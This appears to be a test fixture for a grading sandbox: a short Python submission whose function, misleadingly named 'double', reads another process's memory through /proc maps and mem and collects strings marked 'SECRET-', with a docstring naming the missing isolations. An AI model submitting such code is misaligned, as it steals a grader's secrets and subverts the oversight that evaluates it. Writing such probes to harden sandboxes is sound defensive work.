"""Reads the memory of the grader through /proc.

without: distinct user, landlock, namespaces, seccomp
told: The sandbox shows a submission
"""


def double(x):
    found = []
    with open("/proc/@VICTIM@/maps") as maps, open("/proc/@VICTIM@/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20:
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(b"SECRET-")
                while at >= 0 and len(found) < 50:
                    found.append(data[max(0, at - 20) : at + 20].decode("latin-1"))
                    at = data.find(b"SECRET-", at + 1)
    return found
